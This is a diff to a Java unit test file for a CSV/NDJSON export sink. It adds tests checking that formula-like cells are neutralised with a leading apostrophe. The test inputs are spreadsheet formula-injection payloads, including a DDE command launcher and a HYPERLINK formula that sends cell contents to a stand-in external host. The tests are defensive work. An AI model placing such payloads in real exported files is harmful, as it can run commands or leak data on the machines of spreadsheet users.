@@ -7,6 +7,7 @@ import de.siegmar.fastcsv.reader.CsvRecord;
 import io.pagewalk.dcs.OfflineKeyAnalysisTask;
 import io.pagewalk.dcs.TaskStatus;
 import java.io.ByteArrayOutputStream;
+import java.io.IOException;
 import java.nio.charset.StandardCharsets;
 import java.time.Instant;
 import java.time.temporal.ChronoUnit;
@@ -14,6 +15,8 @@ import java.util.List;
 import java.util.Map;
 import java.util.Random;
 import org.junit.jupiter.api.Test;
+import org.junit.jupiter.params.ParameterizedTest;
+import org.junit.jupiter.params.provider.ValueSource;
 
 /** How rows are written, whatever is in them. */
 class SinkTest {
@@ -31,13 +34,29 @@ class SinkTest {
           "say \"no\", then\r\nleave", TaskStatus.of("új, \"odd\"\n"), null, null, null);
 
   private static String written(Format format, OfflineKeyAnalysisTask... tasks) {
+    return written(format, CellText.GUARDED, "i-1", tasks);
+  }
+
+  private static String written(
+      Format format, CellText cells, String instanceId, OfflineKeyAnalysisTask... tasks) {
     ByteArrayOutputStream out = new ByteArrayOutputStream();
-    Sink sink = format.sink(out);
+    Sink sink = format.sink(out, cells);
     for (OfflineKeyAnalysisTask task : tasks) {
-      sink.write("i-1", task);
+      sink.write(instanceId, task);
     }
     sink.flush();
     return out.toString(StandardCharsets.UTF_8);
+  }
+
+  /** The cells of the only row below the header. */
+  private static List<String> cells(CellText cells, String text) throws IOException {
+    OfflineKeyAnalysisTask task =
+        new OfflineKeyAnalysisTask(
+            text, TaskStatus.of(text), Instant.parse("2024-10-15T02:21:18.669Z"), null, null);
+    try (CsvReader<CsvRecord> reader =
+        CsvReader.builder().ofCsvRecord(written(Format.CSV, cells, text, task))) {
+      return reader.stream().skip(1).findFirst().orElseThrow().getFields();
+    }
   }
 
   @Test
@@ -83,6 +102,53 @@ class SinkTest {
       assertThat(records.get(1).getFields())
           .containsExactly("i-1", AWKWARD.id(), "új, \"odd\"\n", "", "", "");
     }
+  }
+
+  @ParameterizedTest
+  @ValueSource(
+      strings = {
+        "=cmd|' /C calc'!A0",
+        "=HYPERLINK(\"https://elsewhere.example/?\"&B1)",
+        "+1+1",
+        "-1+1",
+        "@SUM(1,1)",
+        "\t=1+1",
+        "\r=1+1",
+        "\n=1+1",
+        "\0=1+1",
+        "\uff1d1+1",
+        "\uff0b1",
+        "\uff0d1",
+        "\uff20SUM(1)",
+        "="
+      })
+  void aCellThatASpreadsheetMightCalculateBeginsWithAnApostrophe(String text) throws Exception {
+    assertThat(cells(CellText.GUARDED, text))
+        .containsExactly("'" + text, "'" + text, "'" + text, "2024-10-15T02:21:18.669Z", "", "");
+    assertThat(cells(CellText.RAW, text))
+        .containsExactly(text, text, text, "2024-10-15T02:21:18.669Z", "", "");
+    assertThat(
+            Json.object(
+                written(
+                    Format.NDJSON,
+                    CellText.GUARDED,
+                    "i-1",
+                    new OfflineKeyAnalysisTask(text, null, null, null, null))))
+        .containsEntry("id", text);
+  }
+
+  @ParameterizedTest
+  @ValueSource(strings = {"a=1", "858ee14c-2271", "success", "'=1", " =1", "1+1", "\"=1\""})
+  void anyOtherCellKeepsItsText(String text) throws Exception {
+    assertThat(cells(CellText.GUARDED, text)).startsWith(text, text, text);
+  }
+
+  @Test
+  void aTimeThatBeginsWithASignIsNoText() {
+    OfflineKeyAnalysisTask late =
+        new OfflineKeyAnalysisTask("a", null, Instant.parse("+10000-01-01T00:00:00Z"), null, null);
+
+    assertThat(written(Format.CSV, late)).contains("\r\ni-1,a,,+10000-01-01T00:00:00.000Z,,\r\n");
   }
 
   @Test
